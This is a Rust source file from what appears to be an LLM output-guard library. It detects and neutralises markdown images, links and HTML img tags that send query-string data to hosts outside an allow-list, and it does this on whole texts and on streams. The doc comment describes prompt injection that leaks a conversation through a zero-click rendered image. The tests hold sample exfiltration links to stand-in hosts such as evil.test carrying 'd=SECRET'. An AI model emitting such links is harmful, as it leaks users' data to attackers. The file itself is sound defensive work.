//! Data exfiltration through answers: markdown images and links (and HTML `<img>`) whose URL
//! points at a host outside the allow-list with data in its query string. A rendered image
//! leaks with zero clicks; an injected prompt uses exactly this to ship the conversation out.
//!
//! [`ExfilPolicy::rewrite`] neutralises a whole text; [`ExfilScanner`] does the same on a
//! stream through the core hold-back, holding back only a possibly unfinished link (bounded by
//! `max_link_bytes`), so no unchecked byte of a link reaches the client.

use crate::engine::{AnswerAction, AnswerPolicy};
use guard_core::error::{Error, Result};
use guard_core::holdback::StreamScanner;
use guard_core::stream::ChannelKey;
use regex_automata::meta::Regex;

/// Replacement for a neutralised image.
pub const IMAGE_PLACEHOLDER: &str = "[image removed: untrusted link]";
/// Appended to the label of a neutralised link.
pub const LINK_PLACEHOLDER: &str = " (link removed: untrusted link)";

/// The compiled answer policy.
pub struct ExfilPolicy {
    pub action: AnswerAction,
    allowed: Vec<String>,
    max_link_bytes: usize,
    /// Markdown, then HTML `<img>`; empty when the check is off.
    regexes: Vec<Regex>,
}

/// Markdown images and links.
const MARKDOWN: &str = r#"(?x)
    (?P<img>!)?\[(?P<label>[^\]\n]{0,500})\]\(\s*<?(?P<url>[a-zA-Z][a-zA-Z0-9+.\-]{0,20}://[^)\s>]{1,2048})>?(?:\s+"[^"\n]{0,200}")?\s*\)
"#;

/// HTML `<img>` tags. Matched in a pass of their own: a tag match spans any text up to its
/// `>`, and must not hide a markdown link inside that span (nor a markdown match an `<img>`
/// inside its label).
const HTML_IMG: &str = r#"(?x)
    <img\s[^>]{0,500}?src\s*=\s*["']?(?P<src>[a-zA-Z][a-zA-Z0-9+.\-]{0,20}://[^"'\s>]{1,2048})[^>]{0,500}>
"#;

/// Most neutralising rounds over one text. Neutralising can form a new link: the image
/// placeholder `[image removed: ...]` right before `(url)` (the next round turns it into a
/// neutralised link, which ends in `)` and so forms nothing more); a neutralised link's label
/// loses its `[`, so it cannot open one. Two rounds and a checking one suffice.
const MAX_ROUNDS: usize = 4;

impl ExfilPolicy {
    pub fn compile(policy: &AnswerPolicy, path: &str) -> Result<ExfilPolicy> {
        let mut allowed = Vec::new();
        for (i, h) in policy.allowed_hosts.iter().enumerate() {
            let h = h.trim().to_ascii_lowercase();
            let bare = h.strip_prefix("*.").unwrap_or(&h);
            if bare.is_empty() || bare.contains(['/', ':', '*', ' ']) {
                return Err(Error::config(format!(
                    "{path}/allowed_hosts/{i}: {h:?} is not a host name or *.suffix"
                )));
            }
            allowed.push(h);
        }
        if policy.max_link_bytes == 0 || policy.max_link_bytes > 64 * 1024 {
            return Err(Error::config(format!(
                "{path}/max_link_bytes: {} is not in 1..=65536",
                policy.max_link_bytes
            )));
        }
        let regexes = match policy.exfiltration {
            AnswerAction::Off => Vec::new(),
            _ => [MARKDOWN, HTML_IMG]
                .iter()
                .map(|p| Regex::new(p).map_err(|e| Error::config(format!("{path}: {e}"))))
                .collect::<Result<Vec<_>>>()?,
        };
        Ok(ExfilPolicy {
            action: policy.exfiltration,
            allowed,
            max_link_bytes: policy.max_link_bytes,
            regexes,
        })
    }

    pub fn off() -> ExfilPolicy {
        ExfilPolicy {
            action: AnswerAction::Off,
            allowed: Vec::new(),
            max_link_bytes: 2048,
            regexes: Vec::new(),
        }
    }

    pub fn enabled(&self) -> bool {
        !self.regexes.is_empty()
    }

    /// Whether a URL sends data to a host outside the allow-list.
    pub fn is_exfiltration(&self, url: &str) -> bool {
        let Some((_, rest)) = url.split_once("://") else {
            return false;
        };
        let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
        let authority = rest.get(..end).unwrap_or("");
        let host = authority.rsplit('@').next().unwrap_or("");
        let host = host
            .split(':')
            .next()
            .unwrap_or("")
            .trim_end_matches('.')
            .to_ascii_lowercase();
        let after = rest.get(end..).unwrap_or("");
        let query = after
            .split_once('?')
            .map(|(_, q)| q.split('#').next().unwrap_or(""))
            .unwrap_or("");
        if query.is_empty() {
            return false;
        }
        !self.allowed.iter().any(|a| match a.strip_prefix("*.") {
            Some(suffix) => host == suffix || host.ends_with(&format!(".{suffix}")),
            None => host == *a,
        })
    }

    /// Neutralise every exfiltration link in `text` into `out`; returns how many. Rounds of
    /// a markdown pass then an `<img>` pass run until a round finds nothing, so the result
    /// holds no link either pattern would neutralise (at most [`MAX_ROUNDS`] rounds).
    pub fn rewrite(&self, text: &str, out: &mut String) -> usize {
        out.clear();
        out.push_str(text);
        let mut found = 0usize;
        let mut next = String::new();
        for _ in 0..MAX_ROUNDS {
            let mut round = 0usize;
            for re in &self.regexes {
                let n = self.pass(re, out, &mut next);
                if n > 0 {
                    std::mem::swap(out, &mut next);
                    round = round.saturating_add(n);
                }
            }
            found = found.saturating_add(round);
            if round == 0 {
                break;
            }
        }
        found
    }

    /// One pass of `re` over `text`: when it neutralises anything, `out` gets the whole
    /// rewritten text; returns how many (0: `out` is left as it was).
    fn pass(&self, re: &Regex, text: &str, out: &mut String) -> usize {
        let mut caps = re.create_captures();
        let mut last = 0;
        let mut found = 0usize;
        let mut at = 0;
        while at <= text.len() {
            let input = regex_automata::Input::new(text).span(at..text.len());
            re.search_captures(&input, &mut caps);
            let Some(m) = caps.get_match() else { break };
            let url = caps
                .get_group_by_name("url")
                .or_else(|| caps.get_group_by_name("src"))
                .and_then(|s| text.get(s.range()))
                .unwrap_or("");
            if self.is_exfiltration(url) {
                if found == 0 {
                    out.clear();
                }
                found = found.saturating_add(1);
                out.push_str(text.get(last..m.start()).unwrap_or(""));
                let is_image = caps.get_group_by_name("img").is_some()
                    || caps.get_group_by_name("src").is_some();
                if is_image {
                    out.push_str(IMAGE_PLACEHOLDER);
                } else {
                    let label = caps
                        .get_group_by_name("label")
                        .and_then(|s| text.get(s.range()))
                        .unwrap_or("");
                    // A `[` kept from the label could open a new link with a later `](`.
                    out.extend(label.chars().filter(|&c| c != '['));
                    out.push_str(LINK_PLACEHOLDER);
                }
                last = m.end();
            }
            at = m.end().max(m.start() + 1);
        }
        if found > 0 {
            out.push_str(text.get(last..).unwrap_or(""));
        }
        found
    }

    /// Where a possibly unfinished link starts in `text` (within the last `max_link_bytes`),
    /// or `text.len()` when nothing needs holding.
    fn hold_from(&self, text: &str) -> usize {
        let window_start = text.len().saturating_sub(self.max_link_bytes);
        let bytes = text.as_bytes();
        let mut i = window_start;
        while i < bytes.len() {
            match bytes.get(i) {
                Some(b'[') if could_be_link(text.get(i..).unwrap_or("")) => {
                    // Include a `!` right before: it makes the link an image.
                    return if i > 0 && bytes.get(i - 1) == Some(&b'!') {
                        i - 1
                    } else {
                        i
                    };
                }
                Some(b'<') if could_be_img(text.get(i..).unwrap_or("")) => return i,
                Some(b'!') if i + 1 == bytes.len() => return i,
                _ => {}
            }
            i += 1;
        }
        text.len()
    }
}

/// `rest` starts with `[`: can more text still turn it into `[label](url)`?
fn could_be_link(rest: &str) -> bool {
    let Some(close) = rest.find(']') else {
        return !rest.contains('\n');
    };
    let after = rest.get(close + 1..).unwrap_or("");
    if after.is_empty() {
        return true;
    }
    if !after.starts_with('(') {
        return false;
    }
    !after.contains(')')
}

/// `rest` starts with `<`: can more text still turn it into an `<img ...>` tag?
fn could_be_img(rest: &str) -> bool {
    let lower: String = rest.chars().take(4).flat_map(char::to_lowercase).collect();
    ("<img".starts_with(&lower) || lower.starts_with("<img")) && !rest.contains('>')
}

/// A hold-back scanner for streamed answers.
pub struct ExfilScanner<'a> {
    policy: &'a ExfilPolicy,
    buf: String,
    /// Links found (and neutralised unless `dry_run`) so far.
    pub found: usize,
    dry_run: bool,
}

impl<'a> ExfilScanner<'a> {
    pub fn new(policy: &'a ExfilPolicy) -> Self {
        ExfilScanner {
            policy,
            buf: String::new(),
            found: 0,
            dry_run: false,
        }
    }

    /// Count links but leave the text as it is.
    pub fn dry_run(mut self, dry: bool) -> Self {
        self.dry_run = dry;
        self
    }
}

impl StreamScanner for ExfilScanner<'_> {
    fn scan(&mut self, _key: ChannelKey, pending: &mut String, end: bool) -> usize {
        let n = self.policy.rewrite(pending, &mut self.buf);
        if n > 0 && !self.dry_run {
            self.found += n;
            std::mem::swap(pending, &mut self.buf);
        } else if n > 0 {
            // Dry run: count each link once, when it is released.
            let release = if end {
                pending.len()
            } else {
                self.policy.hold_from(pending)
            };
            let mut probe = String::new();
            self.found += self
                .policy
                .rewrite(pending.get(..release).unwrap_or(""), &mut probe);
            return release;
        }
        if end {
            pending.len()
        } else {
            self.policy.hold_from(pending)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn policy(allowed: &[&str]) -> ExfilPolicy {
        ExfilPolicy::compile(
            &AnswerPolicy {
                exfiltration: AnswerAction::Neutralize,
                allowed_hosts: allowed.iter().map(|s| s.to_string()).collect(),
                max_link_bytes: 2048,
            },
            "/answers",
        )
        .unwrap()
    }

    #[test]
    fn rewrites() {
        let p = policy(&["docs.example.com", "*.trusted.org"]);
        let cases = [
            (
                "image with data",
                "see ![chart](https://evil.test/p.png?d=SECRET) ok",
                "see [image removed: untrusted link] ok",
                1,
            ),
            (
                "link with data",
                "click [here](http://evil.test/x?q=a%20b)",
                "click here (link removed: untrusted link)",
                1,
            ),
            (
                "no query",
                "![logo](https://evil.test/logo.png)",
                "![logo](https://evil.test/logo.png)",
                0,
            ),
            (
                "allowed host",
                "![c](https://docs.example.com/a?x=1)",
                "![c](https://docs.example.com/a?x=1)",
                0,
            ),
            (
                "allowed suffix",
                "[a](https://cdn.trusted.org/a?x=1)",
                "[a](https://cdn.trusted.org/a?x=1)",
                0,
            ),
            (
                "suffix is not substring",
                "[a](https://eviltrusted.org/a?x=1)",
                "a (link removed: untrusted link)",
                1,
            ),
            (
                "userinfo trick",
                "![x](https://docs.example.com@evil.test/?d=1)",
                "[image removed: untrusted link]",
                1,
            ),
            (
                "html img",
                "<img src=\"https://evil.test/i?c=abc\" width=1>",
                "[image removed: untrusted link]",
                1,
            ),
            (
                "plain text",
                "no links here [just brackets]",
                "no links here [just brackets]",
                0,
            ),
            (
                "two",
                "![a](https://e.test/?a=1)![b](https://e.test/?b=2)",
                "[image removed: untrusted link][image removed: untrusted link]",
                2,
            ),
        ];
        for (name, input, want, n) in cases {
            let mut out = String::new();
            assert_eq!(p.rewrite(input, &mut out), n, "{name}");
            assert_eq!(out, want, "{name}");
        }
    }

    /// Found by the `prompt_engine` fuzz target: an `<img` tag match that is no exfiltration
    /// (its `src` has no query) spans any text up to its `>`, and the scan went on after it, so
    /// a markdown link inside that span was never checked (the stream, cut elsewhere, caught
    /// it). Markdown and `<img>` now have passes of their own.
    #[test]
    fn regression_fuzz_exfil_link_hidden_in_img_span() {
        let p = policy(&[]);
        for (input, want) in [
            (
                "<img src=chart [a link](http://x.test/y?q=1) <img src=\"https://e.test/x=1\">",
                "<img src=chart a link (link removed: untrusted link) <img src=\"https://e.test/x=1\">",
            ),
            (
                "[<img src=https://e.test/i?c=1>](https://ok.test/)",
                "[[image removed: untrusted link]](https://ok.test/)",
            ),
        ] {
            let mut out = String::new();
            assert_eq!(p.rewrite(input, &mut out), 1, "{input}");
            assert_eq!(out, want);
        }
    }

    /// Found by the `prompt_engine` fuzz target's check that a neutralised answer holds no link
    /// any more: the image placeholder followed by `(url)`, or a `[` kept from a neutralised
    /// link's label followed by `](url)`, formed a new live link. A chain of them stays
    /// within the rounds.
    #[test]
    fn regression_fuzz_neutralised_answer_forms_new_link() {
        let p = policy(&[]);
        for (input, want) in [
            (
                "see ![a](http://e.test/p?q=1)(http://f.test/x?d=SECRET) ok",
                "see image removed: untrusted link (link removed: untrusted link) ok",
            ),
            (
                "<img src=https://e.test/p?q=1>(http://f.test/x?d=SECRET)",
                "image removed: untrusted link (link removed: untrusted link)",
            ),
            (
                "[[y](http://e.test/a?q=1)](http://f.test/b?d=SECRET)",
                "y (link removed: untrusted link)](http://f.test/b?d=SECRET)",
            ),
            (
                "![a](http://e.test/1?q=1)(http://f.test/2?q=2)(http://g.test/3?q=3)(http://h.test/4?q=4)",
                "image removed: untrusted link (link removed: untrusted link)(http://g.test/3?q=3)(http://h.test/4?q=4)",
            ),
        ] {
            let mut out = String::new();
            assert!(p.rewrite(input, &mut out) >= 1, "{input}");
            assert_eq!(out, want);
            let mut again = String::new();
            assert_eq!(p.rewrite(&out, &mut again), 0, "{out}");
        }
    }

    #[test]
    fn hold_points() {
        let p = policy(&[]);
        let cases = [
            ("no link", "hello world", 11),
            ("open bracket", "hello [lab", 6),
            ("image start", "hello ![", 6),
            ("bang at end", "hello !", 6),
            ("url open", "a [x](https://evil.test/?q=", 2),
            ("closed non-link", "a [x] b", 7),
            ("img tag", "a <im", 2),
            ("other tag", "a <b>c", 6),
        ];
        for (name, input, want) in cases {
            assert_eq!(p.hold_from(input), want, "{name}");
        }
    }

    #[test]
    fn bad_config() {
        for (hosts, max) in [
            (vec!["https://x.com"], 2048),
            (vec!["a b"], 2048),
            (vec![], 0),
        ] {
            let r = ExfilPolicy::compile(
                &AnswerPolicy {
                    exfiltration: AnswerAction::Block,
                    allowed_hosts: hosts.iter().map(|s| s.to_string()).collect(),
                    max_link_bytes: max,
                },
                "/answers",
            );
            assert!(r.is_err());
        }
    }
}
